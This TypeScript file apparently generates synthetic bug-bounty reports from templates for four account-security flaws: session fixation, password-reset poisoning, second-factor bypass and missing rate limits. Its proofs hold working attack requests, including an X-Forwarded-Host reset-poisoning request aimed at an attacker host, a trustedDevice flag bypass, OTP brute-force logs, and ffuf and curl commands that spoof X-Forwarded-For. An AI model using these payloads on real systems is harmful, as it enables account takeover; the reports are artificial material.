import type { VulnerabilityClass } from './vulnerability-class.ts'

const sessionFixation: VulnerabilityClass = {
  key: 'session-fixation',
  type: 'Session management',
  cwe: 384,
  weight: 3,
  surfaces: ['web', 'mobile', 'api'],
  shape: 'click',
  severities: [
    ['High', 2],
    ['Medium', 5],
    ['Low', 3],
  ],
  places: [
    { method: 'POST', path: '/login', parameter: '«cookieName»', detail: 'is not renewed at sign-in' },
    { method: 'POST', path: '/logout', parameter: 'refresh_token', detail: 'stays valid after signing out' },
    {
      method: 'POST',
      path: '«api»/account/password',
      parameter: 'session',
      detail: 'survives a change of the password',
    },
    {
      method: 'DELETE',
      path: '«api»/account',
      parameter: 'access_token',
      detail: 'stays valid for 24 hours after the user was deleted',
    },
  ],
  titles: [
    'Session: `«parameter»` «detail»',
    '`«parameter»` «detail» («method» «path»)',
    'Old `«parameter»` still works: it «detail»',
    '«host»: `«parameter»` «detail»',
  ],
  summaries: [
    '`«parameter»` «detail». Whoever has got hold of it once stays inside.',
    'I expected `«method» «path»` to end what was there before. It does not: `«parameter»` «detail».',
  ],
  steps: [
    [
      'Sign in with browser 1 and note `«parameter»`.',
      'Do `«method» «path»` in browser 2.',
      'Use the noted value again in browser 1, an hour later: 200.',
    ],
  ],
  proofs: [
    [
      {
        say: 'Afterwards:',
        lang: 'http',
        code: `GET «api»/me HTTP/2
Host: «host»
Cookie: «cookieName»=«session»

HTTP/2 200
Content-Type: application/json

{"id":«meId»,"email":"«me»","signedInAt":"2026-11-17T08:12:44Z"}`,
      },
    ],
    [
      {
        say: 'Times of my test:',
        lang: 'text',
        code: `08:12:44  sign in, value noted
08:20:10  «method» «path»  -> 204
08:20:15  GET «api»/me      -> 200
09:20:15  GET «api»/me      -> 200
+24 h     GET «api»/me      -> 401`,
      },
    ],
  ],
  impacts: [
    'A victim who notices the theft of a session cannot end it. On shared computers the next person may be signed in.',
    'Former team members keep access to «many» for a day.',
  ],
  fixes: [
    'Give out a new session at sign-in and revoke the whole family of tokens at sign-out and change of password.',
  ],
  notes: [
    'Reproduced. Tokens are self-contained with 24 h, there is no revocation list. Known debt, see «ticket».',
  ],
}

const resetPoisoning: VulnerabilityClass = {
  key: 'reset-poisoning',
  type: 'Password reset',
  cwe: 640,
  weight: 3,
  surfaces: ['web', 'api'],
  shape: 'click',
  severities: [
    ['High', 6],
    ['Medium', 3],
  ],
  places: [
    {
      method: 'POST',
      path: '/password/forgot',
      parameter: 'X-Forwarded-Host',
      detail: 'the link in the mail points to my host',
      excerpt: `POST /password/forgot HTTP/1.1
Host: «host»
X-Forwarded-Host: «attacker»
Content-Type: application/x-www-form-urlencoded

email=«victim»

# the mail, from the real sender
From: no-reply@«domain»
Subject: Reset your password

Click here: https://«attacker»/password/reset?token=«token»`,
    },
    {
      method: 'POST',
      path: '«api»/auth/reset',
      parameter: 'email[]',
      detail: 'the mail goes to two addresses',
      excerpt: `POST «api»/auth/reset HTTP/1.1
Host: «host»
Content-Type: application/json

{"email":["«victim»","«me»"]}

HTTP/1.1 200 OK
{"sent":true}

# in the mailbox of «me»
https://«host»/password/reset?token=«token»`,
    },
    {
      path: '/password/reset',
      parameter: 'Referer',
      detail: 'the token is sent to an analytics host',
      excerpt: `GET /collect?e=view HTTP/2
Host: metrics.thirdparty.example
Referer: https://«host»/password/reset?token=«token»
User-Agent: Mozilla/5.0`,
      titles: [
        'Reset token leaks to analytics host through the Referer header',
        'Password reset page sends its token to a third party',
      ],
      summaries: [
        'The reset page loads a third-party script before the token is taken out of the address. The full URL, token included, is sent as `Referer` and stays valid for 24 hours.',
        'Opening the link in the reset mail gives the token to `metrics.thirdparty.example`. It can be used more than once.',
      ],
      steps: [
        [
          'Ask for a reset of your own account and open the link in the mail.',
          'Look at the network tab: the first request to `metrics.thirdparty.example` carries the full address.',
          'Use the token from there in another browser. It works, even after the password was changed with it once.',
        ],
      ],
    },
  ],
  titles: [
    'Password reset through `«parameter»`: «detail»',
    'Account takeover with the reset mail («detail»)',
    'Reset poisoning at «path» (`«parameter»`)',
    '`«parameter»` decides about the reset of others: «detail»',
  ],
  summaries: [
    'With `«parameter»` in the request to `«path»`, «detail». The token in it is genuine and valid for 24 hours.',
    'The reset of a foreign account can be steered by `«parameter»`: «detail». Only the e-mail address of the victim must be known.',
  ],
  steps: [
    [
      'Ask for a reset of `«victim»` with the request below.',
      'Watch where the token arrives.',
      'Set a new password with it and sign in as `«victim»`.',
    ],
  ],
  proofs: [[{ say: 'Request and result:', lang: 'http', code: '«excerpt»' }]],
  impacts: [
    'One click of the victim in a genuine mail costs the account. Mail scanners that follow links do the click by themselves.',
    'Takeover of any account whose e-mail address is known.',
  ],
  fixes: [
    'Make links from a configured base address, take the token out of the address at once and let it die after the first use.',
  ],
  notes: [
    'Mail arrived with the foreign host on staging. Production has a host allow list at the edge, X-Forwarded-Host passes though.',
    'Confirmed with our analytics vendor: the tokens are in their raw logs. They will delete them.',
  ],
}

const secondFactorBypass: VulnerabilityClass = {
  key: 'second-factor-bypass',
  type: 'Second factor bypass',
  cwe: 308,
  weight: 3,
  surfaces: ['web', 'api', 'mobile'],
  shape: 'write',
  severities: [
    ['High', 5],
    ['Medium', 5],
  ],
  places: [
    {
      method: 'POST',
      path: '/login/2fa',
      parameter: 'code',
      detail: 'the step can be skipped',
      excerpt: `# after the password, no code entered
GET «api»/me HTTP/2
Host: «host»
Cookie: «cookieName»=«session»

HTTP/2 200
Content-Type: application/json

{"id":«victimId»,"mfa":{"required":true,"passed":false},"email":"«victim»"}`,
    },
    {
      method: 'POST',
      path: '«api»/auth/otp/verify',
      parameter: 'code',
      detail: 'codes can be tried without limit',
      excerpt: `POST «api»/auth/otp/verify   {"code":"000000"}   422
POST «api»/auth/otp/verify   {"code":"000001"}   422
…
POST «api»/auth/otp/verify   {"code":"00«big»"}   200   <- after «big» tries, no lock, no mail to the owner`,
    },
    {
      method: 'POST',
      path: '«api»/auth/otp/verify',
      parameter: 'trustedDevice',
      detail: 'the client says that the device is trusted',
      excerpt: `POST «api»/auth/otp/verify HTTP/2
Host: «host»
Cookie: «cookieName»=«session»
Content-Type: application/json

{"code":"","trustedDevice":true}

HTTP/2 200
{"ok":true,"next":"/home"}`,
    },
    {
      method: 'POST',
      path: '/login/backup',
      parameter: 'backupCode',
      detail: 'backup codes work more than once',
      excerpt: `08:14:02  POST /login/backup  backupCode=7QXD-91KF   302 /home
08:20:45  POST /logout                               302 /
08:21:10  POST /login/backup  backupCode=7QXD-91KF   302 /home   <- the same code`,
    },
  ],
  titles: [
    'Second factor bypass on «host»: «detail»',
    '2FA at «path»: «detail»',
    'Password alone is enough, because «detail»',
    'Two-factor authentication of «host» does not protect («detail»)',
  ],
  summaries: [
    'After the password the second factor is asked for, but «detail».',
    'Two-factor authentication gives no protection here: «detail» at `«path»`.',
  ],
  steps: [
    [
      'Switch on the second factor for `«victim»`.',
      'Sign in with the password. The page for the code appears.',
      'Do what is shown below in place of entering a fresh code.',
      'Open `/home`: signed in.',
    ],
  ],
  proofs: [[{ say: 'What I saw:', lang: 'http', code: '«excerpt»' }]],
  impacts: [
    'With a password from an old leak the account is open, although its owner did everything right.',
    'The protection that is advertised to every «customer» does not exist on this path.',
  ],
  fixes: [
    'Keep a half-finished sign-in in a state of its own that opens nothing, and count the tries for each account.',
  ],
  notes: ['Works. The mobile API checks `mfa.passed` only on write endpoints; reads are open.'],
}

const missingRateLimit: VulnerabilityClass = {
  key: 'missing-rate-limit',
  type: 'Missing rate limit',
  cwe: 307,
  weight: 4,
  surfaces: ['web', 'api', 'mobile'],
  shape: 'write',
  severities: [
    ['Medium', 4],
    ['Low', 6],
  ],
  places: [
    { method: 'POST', path: '«api»/login', parameter: 'password' },
    { method: 'POST', path: '«api»/coupons/check', parameter: 'code' },
    { method: 'POST', path: '«api»/phone/verify', parameter: 'pin' },
    { method: 'POST', path: '«collection»/lookup', parameter: 'pin' },
  ],
  titles: [
    'Missing rate limit on «path» allows guessing `«parameter»`',
    'Rate limit of «path» is bypassed with `X-Forwarded-For`',
    'No rate limiting: «big» requests to «path» in one minute',
    'Brute force of `«parameter»` with a new `X-Forwarded-For` each time («host»)',
  ],
  summaries: [
    '`«path»` answers as often as it is asked. I sent «big» requests in a minute and the last one was treated like the first.',
    'The limit counts by the address in `X-Forwarded-For`, which the caller writes. With a new value each time there is no limit.',
  ],
  steps: [
    [
      'Send the request to the intruder, with `«parameter»` as the position.',
      'Run a list of «big» values with 20 connections.',
      'All answers are 200 or 422, none 429. The right value stands out by its length.',
    ],
  ],
  proofs: [
    [
      {
        say: 'Against my own account, with my own value in the middle of the list:',
        lang: 'bash',
        code: `$ ffuf -w list.txt -u 'https://«host»«path»' -X POST -H 'Content-Type: application/json' \\
    -d '{"user":"«me»","«parameter»":"FUZZ"}' -fc 422 -rate 100
[Status: 200, Size: 412] :: correct-value
:: Progress: [«big»/«big»] :: 98 req/sec :: Errors: 0 ::`,
      },
    ],
    [
      {
        say: 'The eleventh request is refused, with the header it is not:',
        lang: 'bash',
        code: `$ for i in $(seq 1 12); do curl -s -o /dev/null -w '%{http_code} ' -X POST 'https://«host»«path»' -d '{}'; done
422 422 422 422 422 422 422 422 422 422 429 429
$ for i in $(seq 1 12); do curl -s -o /dev/null -w '%{http_code} ' -X POST 'https://«host»«path»' \\
    -H "X-Forwarded-For: 203.0.113.$i" -d '{}'; done
422 422 422 422 422 422 422 422 422 422 422 422`,
      },
    ],
  ],
  impacts: [
    'Values of `«parameter»` can be guessed in the course of a night.',
    'Besides guessing, every request costs money or sends something to a stranger’s phone.',
  ],
  fixes: ['Limit by account and by address, and answer 429 with a growing wait.'],
  notes: [
    'No 429 in 2,000 requests, right. Space of values is 36^10, though, so no real risk for this parameter. Low.',
  ],
}

export const accountClasses: readonly VulnerabilityClass[] = [
  sessionFixation,
  resetPoisoning,
  secondFactorBypass,
  missingRateLimit,
]
